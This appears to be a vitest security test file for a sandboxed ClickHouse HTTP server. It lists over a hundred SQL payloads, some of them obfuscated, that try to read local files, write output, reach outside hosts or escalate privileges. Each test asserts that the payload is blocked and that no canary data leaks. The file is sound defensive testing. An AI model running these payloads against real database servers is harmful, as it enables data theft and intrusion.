import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import {
  type ClickHouseServer,
  serveClickHouse,
} from '../../../src/warehouse/http-server/serve-clickhouse.ts';
import { send } from './raw-request.ts';

const CANARY = 'invented-secret-of-the-machine';
const folder = mkdtempSync(join(tmpdir(), 'qtickets-confined-'));
const secret = join(folder, 'secret.csv');
const out = join(folder, 'out');
let server: ClickHouseServer;
let elsewhere: Server;
let calls = 0;
let address: string;

beforeAll(async () => {
  writeFileSync(secret, `${CANARY}\n`);
  elsewhere = createServer((_, response) => {
    calls += 1;
    response.end(CANARY);
  });
  elsewhere.on('connection', () => {
    calls += 1;
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  address = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  server = await serveClickHouse();
  for (const sql of [
    'CREATE DATABASE d',
    'CREATE TABLE d.t (a String, b String) ENGINE = MergeTree ORDER BY a',
    "INSERT INTO d.t VALUES ('1', 'one')",
  ]) {
    expect((await ask(sql)).status).toBe(200);
  }
}, 30_000);
beforeEach(() => {
  calls = 0;
});
afterAll(async () => {
  await server?.close();
  elsewhere?.close();
  rmSync(folder, { recursive: true, force: true });
});

function ask(body: string | Buffer | undefined, search = '', headers: Record<string, string> = {}) {
  const { user, password } = server.account;
  return send(`${server.url}/${search}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: { 'X-ClickHouse-User': user, 'X-ClickHouse-Key': password, ...headers },
    body,
  });
}

/** Every way out that is known of ClickHouse 26.7: `@` is a file that is there, `>` one that is not, `~` a host that counts calls. */
const WAYS_OUT: string[] = [
  "SELECT * FROM file('@', 'CSV', 'a String')",
  "SELECT * FROM/**/`file`('@', LineAsString)",
  "SELECT * FROM (SELECT * FROM (SELECT * FROM file('@', 'RawBLOB', 'a String')))",
  "WITH x AS (SELECT * FROM file('@', 'CSV', 'a String')) SELECT * FROM x",
  "SELECT * FROM '@'",
  'SELECT * FROM `@`',
  'SELECT * FROM default.`@`',
  'EXPLAIN SELECT * FROM `@`',
  'DESCRIBE TABLE `@`',
  'SHOW CREATE TABLE `@`',
  'CREATE TABLE d.x AS `@`',
  'TRUNCATE TABLE `@`',
  'DROP TABLE `@`',
  'RENAME TABLE `@` TO d.x',
  "DETACH DATABASE d PERMANENTLY INTO OUTFILE '>'",
  "INSERT INTO `@` SELECT 'x'",
  "SELECT 1 IN file('@', 'CSV', 'a String')",
  "SELECT file('@')",
  "SELECT `file`('@')",
  'SELECT "f\\x69le"(\'@\')',
  "SELECT file /* x */ ('@')",
  "SELECT arrayMap(x -> file(x), ['@'])",
  "SELECT arrayMap(file, ['@'])",
  "SELECT arrayMap(`file`, ['@'])",
  'SELECT arrayMap("f\\x69le", [\'@\'])',
  "SELECT arrayMap((file), ['@'])",
  "SELECT arrayMap(((file)) AS f, ['@'])",
  "SELECT arraySort(file AS f, ['@'])",
  "SELECT arrayMap(x -> arrayMap(/* x */ file, [x]), ['@'])",
  "SELECT COLUMNS('a') REPLACE(arrayMap(file, ['@']) AS a) FROM d.t",
  "CREATE VIEW d.v AS SELECT arrayMap(file, ['@']) AS a",
  "CREATE TABLE d.x (a String, b Array(String) DEFAULT arrayMap(file, ['@'])) ENGINE = Memory",
  "ALTER TABLE d.t UPDATE b = arrayMap(file, ['@'])[1] WHERE 1",
  "SELECT * APPLY file FROM (SELECT '@' AS a)",
  "SELECT * APPLY(x -> file(x)) FROM (SELECT '@' AS a)",
  "SELECT COLUMNS('a') APPLY(`file`) FROM (SELECT '@' AS a)",
  "SELECT * REPLACE(file('@') AS a) FROM (SELECT 1 AS a)",
  "SELECT * FROM format(JSONEachRow, 'a String, b String DEFAULT file(\\'@\\')', '{\"a\":\"x\"}')",
  "SELECT * FROM values('a String, b String DEFAULT file(\\'@\\')', ('x', 'y'))",
  "SELECT 'x' IN (format(JSONEachRow, 'a String DEFAULT file(\\'@\\')', '{}'))",
  "SELECT * FROM d.t SETTINGS additional_result_filter = 'throwIf(1, file(\\'@\\'))'",
  "SELECT * FROM d.t SETTINGS additional_table_filters = {'d.t': 'throwIf(1, file(\\'@\\'))'}",
  "CREATE VIEW d.v AS SELECT file('@') AS a",
  "CREATE TABLE d.x (a String, b String DEFAULT file('@')) ENGINE = Memory",
  "ALTER TABLE d.t ADD COLUMN c String DEFAULT file('@')",
  "ALTER TABLE d.t UPDATE b = file('@') WHERE 1",
  "ALTER TABLE d.t DROP PARTITION tuple(file('@'))",
  "INSERT INTO d.t VALUES ('2', file('@'))",
  "INSERT INTO d.t SETTINGS input_format_values_interpret_expressions = 1 VALUES ('2', file('@'))",
  "INSERT INTO d.t (a, b) SELECT 'x', file('@')",
  "INSERT INTO d.t FROM INFILE '@' FORMAT CSV",
  "INSERT INTO d.t (a) FROM/**/INFILE '@' COMPRESSION 'none' FORMAT LineAsString",
  "CREATE TABLE d.x (a String) ENGINE = File(CSV, '@')",
  "CREATE TEMPORARY TABLE x (a String) ENGINE = File(CSV, '@')",
  "CREATE TABLE d.x AS file('@', 'CSV', 'a String')",
  "ATTACH TABLE d.x FROM '#' (a String) ENGINE = File(CSV)",
  "CREATE DICTIONARY d.x (a UInt64) PRIMARY KEY a SOURCE(FILE(path '@' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
  "CREATE DATABASE x ENGINE = Filesystem('#')",
  "CREATE DATABASE x ENGINE = SQLite('>')",
  "CREATE DATABASE x ENGINE = Backup('d', File('>'))",
  "RESTORE TABLE d.t AS d.x FROM File('#')",
  "BACKUP TABLE d.t TO File('>')",
  "BACKUP TABLE d.t TO S3('http://~/bucket/x', 'k', 's')",
  "DESCRIBE TABLE file('@', CSV)",
  "SELECT * FROM filesystem('#')",
  "SELECT * FROM sqlite('>', 't')",
  "SELECT * FROM icebergLocal('#')",
  "SELECT * FROM deltaLakeLocal('#')",
  "SELECT catboostEvaluate('@', 1)",
  "SELECT * FROM executable('cat @', 'CSV', 'a String')",
  "SELECT * FROM fileCluster('default', '@', 'CSV', 'a String')",
  "SELECT 1 FORMAT Template SETTINGS format_template_row = '@'",
  "SELECT 1 FORMAT Protobuf SETTINGS format_schema = '@:M'",
  "INSERT INTO FUNCTION file('>', 'CSV', 'a String') VALUES ('x')",
  "INSERT INTO FUNCTION file('>', 'CSV', 'a String') SELECT 'x'",
  "INSERT INTO TABLE FUNCTION `file`('>', 'CSV', 'a String') SELECT 'x'",
  "SELECT 1 INTO OUTFILE '>'",
  "SELECT 1 INTO/**/OUTFILE '>' FORMAT CSV",
  "(SELECT 1) INTO OUTFILE '>' APPEND",
  'SELECT 1 INTO OUTFILE $$>$$',
  "SHOW TABLES INTO OUTFILE '>'",
  "DESCRIBE TABLE d.t INTO OUTFILE '>'",
  "EXPLAIN SELECT 1 INTO OUTFILE '>'",
  "DROP TABLE IF EXISTS d.none INTO OUTFILE '>'",
  "SELECT “1” ; SELECT 1 INTO OUTFILE '>'",
  "SELECT 1 −− ' \n; SELECT 1 INTO OUTFILE '>' --'",
  "INSERT INTO d.t SELECT 'z', 'z'; SELECT 1 INTO OUTFILE '>'",
  "INSERT INTO d.t VALUES ('z', 'z'); SELECT 1 INTO OUTFILE '>'",
  "CREATE TABLE IF NOT EXISTS d.t (a String) ENGINE = Memory PARALLEL WITH BACKUP TABLE d.t TO File('>')",
  "SELECT number FROM numbers(2) FORMAT Protobuf SETTINGS output_format_schema = '>'",
  "INSERT INTO d.t SETTINGS input_format_record_errors_file_path = '>', input_format_allow_errors_num = 9 FORMAT CSV\nx",
  "CREATE TABLE d.x (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '>/')",
  "CREATE TABLE d.x (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = 'http://~/')",
  "CREATE TABLE d.x (a String) ENGINE = TinyLog SETTINGS disk = disk(type = web, endpoint = 'http://~/')",
  "ALTER TABLE d.t MODIFY SETTING disk = disk(type = web, endpoint = 'http://~/')",
  "SELECT * FROM url('http://~/', CSV, 'a String')",
  "SELECT * FROM (SELECT * FROM `url`('http://~/', CSV, 'a String'))",
  "SELECT * FROM 'http://~/x.csv'",
  "SELECT 1 IN url('http://~/', CSV, 'a UInt8')",
  "INSERT INTO FUNCTION url('http://~/', CSV, 'a String') SELECT 'x'",
  "CREATE TABLE d.x (a String) ENGINE = URL('http://~/', CSV)",
  "CREATE MATERIALIZED VIEW d.x ENGINE = URL('http://~/', CSV) AS SELECT a FROM d.t",
  "CREATE VIEW d.x AS SELECT * FROM url('http://~/', CSV, 'a String')",
  "SELECT * FROM s3('http://~/bucket/x', 'CSV', 'a String')",
  "SELECT * FROM remote('~', 'system', 'one')",
  "SELECT * FROM remoteSecure('~', 'system', 'one')",
  "SELECT * FROM mysql('~', 'a', 'b', 'c', 'd')",
  "SELECT * FROM postgresql('~', 'a', 'b', 'c', 'd')",
  "SELECT * FROM mongodb('~', 'a', 'b', 'c', 'd', 'a String')",
  "SELECT * FROM redis('~', 'a', 'a String')",
  "SELECT * FROM hdfs('hdfs://~/x', 'CSV', 'a String')",
  "SELECT * FROM azureBlobStorage('http://~/x', 'c', 'p', 'k', 'a2V5', 'CSV')",
  "SELECT * FROM iceberg('http://~/bucket/x', 'k', 's')",
  "CREATE DATABASE x ENGINE = MySQL('~', 'a', 'b', 'c')",
  "CREATE DATABASE x ENGINE = DataLakeCatalog('http://~/x') SETTINGS warehouse = 'a', catalog_type = 'rest', allow_database_iceberg = 1",
  "CREATE DICTIONARY d.x (a UInt64) PRIMARY KEY a SOURCE(HTTP(url 'http://~/' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
  "RESTORE TABLE d.t AS d.x FROM S3('http://~/bucket/x', 'k', 's')",
  "SELECT * FROM d.t FORMAT AvroConfluent SETTINGS format_avro_schema_registry_url = 'http://~/'",
  'CREATE NAMED COLLECTION x AS a = 1',
  'CREATE FUNCTION x AS a -> a',
  'SYSTEM SHUTDOWN',
  'SYSTEM FLUSH LOGS',
  'KILL QUERY WHERE 1',
  'CREATE USER x',
  'GRANT ALL ON *.* TO default',
  'ALTER TABLE d.t FREEZE',
  "SET format_schema = '@'",
];

function filled(sql: string): string {
  return sql.replaceAll('@', secret).replaceAll('#', folder).replaceAll('>', out).replaceAll('~', address);
}

// `->` of a lambda is no file.
const withLambdas = (sql: string) => filled(sql.replaceAll('->', '→')).replaceAll('→', '->');

test.each(WAYS_OUT)('%s reaches nothing', async (way) => {
  const answer = await ask(withLambdas(way));
  expect(answer.status).not.toBe(200);
  expect(answer.body).not.toContain(CANARY);
  expect(readdirSync(folder)).toEqual(['secret.csv']);
  expect(calls).toBe(0);
});

test.each(['file', 'FILE', 'fi\\x6ce'])(
  '%s is no name that a query is given for a function',
  async (name) => {
    const search = `?param_f=${encodeURIComponent(name)}`;
    const answer = await ask(filled("SELECT arrayMap({f:Identifier}, ['@'])"), search);
    expect(answer).toMatchObject({ status: 403 });
    expect(answer.body).not.toContain(CANARY);
  },
);

test.each([
  ['a format schema', 'format_schema', '@'],
  ['a schema that is written', 'output_format_schema', '>'],
  ['another language', 'dialect', 'kusto'],
  ['a filter in a text', 'additional_result_filter', "throwIf(1, file('@'))"],
])('%s is no setting of the URL', async (_, name, value) => {
  const answer = await ask(
    'SELECT a FROM d.t FORMAT Protobuf',
    `?${name}=${encodeURIComponent(filled(value))}`,
  );
  expect(answer.status).not.toBe(200);
  expect(answer.body).not.toContain(CANARY);
  expect(existsSync(out)).toBe(false);
});

test.each([
  '',
  '&readonly=0',
  '&readonly=1',
  '&readonly=2',
  '&readonly=00',
  '&readonly=2&readonly=0',
  '&READONLY=0',
  '&allow_ddl=1&readonly=false',
  '&readonly=-0',
])('a GET with %s only reads', async (search) => {
  for (const sql of [
    "INSERT INTO d.t (a, b) SELECT 'got', 'got'",
    'TRUNCATE TABLE d.t',
    'CREATE TABLE d.got (a String) ENGINE = Memory',
    'DROP TABLE d.t',
    'SELECT 1 SETTINGS readonly = 0',
  ]) {
    const answer = await ask(undefined, `?query=${encodeURIComponent(sql)}${search}`, {
      'Sec-Fetch-Site': 'none',
    });
    expect(answer.status).not.toBe(200);
  }
  expect((await ask("SELECT count() FROM d.t WHERE a = 'got' OR a = '1'")).body).toBe('1\n');
  expect((await ask('EXISTS TABLE d.got')).body).toBe('0\n');
});

test.each([
  [
    'a text that speaks of files',
    "SELECT 'INTO OUTFILE \\'x\\' file(1)' AS a",
    "INTO OUTFILE \\'x\\' file(1)\n",
  ],
  ['columns named as functions', "SELECT file, url FROM (SELECT 'f' AS file, 'u' AS url)", 'f\tu\n'],
  ['a column of such a name, with its table', "SELECT upper(t.file) FROM (SELECT 'f' AS file) AS t", 'F\n'],
  ['a function by its name', "SELECT arrayMap(upper, ['a', 'b'])", "['A','B']\n"],
  ['a scalar function named as a table function', "SELECT format('{}-{}', 'a', 'b')", 'a-b\n'],
  ['rows that are made', 'SELECT sum(number) FROM numbers(4)', '6\n'],
  ['a set of rows that are made', 'SELECT 2 IN (SELECT number FROM numbers(3))', '1\n'],
  ['a set of a function', "SELECT 'b' IN (lower('B'))", '1\n'],
  ['functions applied', "SELECT * APPLY(upper) FROM (SELECT 'a' AS a)", 'A\n'],
  ['a union with settings', 'SELECT 1 UNION ALL SELECT 1 SETTINGS max_threads = 1', '1\n1\n'],
  ['the tables of the server', "SELECT name FROM system.tables WHERE database = 'd' AND name = 't'", 't\n'],
])('%s is answered', async (_, sql, body) => {
  expect(await ask(sql)).toMatchObject({ status: 200, body });
});

test('whether a file is there, and what its columns are, is not told', async () => {
  for (const sql of ['EXISTS TABLE `@`', "SELECT hasColumnInTable('default', '@', 'c1')"]) {
    expect((await ask(filled(sql))).body).not.toBe('1\n');
  }
  expect(
    (await ask('SELECT count() FROM {file:Identifier}', `?param_file=${encodeURIComponent(secret)}`)).status,
  ).toBe(404);
});

test('the database without a name is one of its own', async () => {
  for (const sql of [
    'CREATE TABLE plain (a UInt8) ENGINE = MergeTree ORDER BY a',
    'INSERT INTO plain VALUES (3)',
  ])
    expect((await ask(sql)).status).toBe(200);
  expect((await ask('SELECT * FROM default.plain')).body).toBe('3\n');
});

test('tables, views and mutations of its own work', async () => {
  for (const sql of [
    'CREATE TABLE d.file (a UInt32, b Array(String)) ENGINE = ReplacingMergeTree ORDER BY a',
    "INSERT INTO d.file (a, b) VALUES (1, ['x;', 'it''s']), (2, []);",
    'CREATE MATERIALIZED VIEW d.sums ENGINE = SummingMergeTree ORDER BY a AS SELECT a, count() AS n FROM d.file GROUP BY a',
    'ALTER TABLE d.file ADD COLUMN c String DEFAULT toString(a)',
    "ALTER TABLE d.file UPDATE c = 'z' WHERE a = 1",
    'OPTIMIZE TABLE d.file FINAL',
    'RENAME TABLE d.file TO d.files',
    'DROP TABLE d.sums',
    'TRUNCATE TABLE d.files',
    'DROP TABLE d.files',
  ]) {
    expect(await ask(sql)).toMatchObject({ status: 200 });
  }
});
